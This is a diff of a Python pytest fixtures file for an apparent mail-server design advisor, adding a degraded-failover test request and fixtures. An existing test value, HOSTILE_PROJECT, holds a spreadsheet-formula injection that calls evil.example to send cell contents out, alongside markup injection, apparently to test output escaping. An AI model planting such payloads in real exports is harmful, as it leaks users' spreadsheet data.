@@ -28,6 +28,18 @@ SIX_REQUEST: dict[str, Any] = {
     "project": PROJECT,
 }
 
+# 1000 heavy mailboxes on entry servers and no server goal: the cheapest DAGs survive a server's
+# loss only slowly (degraded), the survivor past its memory sizing.
+DEGRADED_REQUEST: dict[str, Any] = {
+    "budget": {"amount": 100_000, "currency": "USD", "applies_to": "upfront"},
+    "mailboxes": 1000,
+    "mailbox_profile": {"messages_per_day": 500, "mailbox_size_gb": 0.25},
+    "goals": [{"failure": "database", "services": ["outlook"], "priority": "required"}],
+    "environment": {"cals_owned": 300},
+    "alternatives": 3,
+    "project": PROJECT,
+}
+
 # Text that a spreadsheet would run as a formula, or a PDF library would read as markup.
 HOSTILE_PROJECT = {
     "name": '=HYPERLINK("http://evil.example/?q="&A1,"Open") <b>Bold</b> & <font size=40>',
@@ -54,6 +66,17 @@ def six_response(advisor: Advisor) -> dict[str, Any]:
 @pytest.fixture(scope="session")
 def six(advisor: Advisor, six_response: dict[str, Any]) -> Comparison:
     return comparison_from_request(advisor, SIX_REQUEST, response=six_response, today=TODAY)
+
+
+@pytest.fixture(scope="session")
+def degraded_response(advisor: Advisor) -> dict[str, Any]:
+    return advisor.recommend(copy.deepcopy(DEGRADED_REQUEST))
+
+
+@pytest.fixture(scope="session")
+def degraded(advisor: Advisor, degraded_response: dict[str, Any]) -> Comparison:
+    """Designs whose server failures are degraded: a survivor runs past its sizing."""
+    return comparison_from_request(advisor, DEGRADED_REQUEST, response=degraded_response, today=TODAY)
 
 
 @pytest.fixture(scope="session")
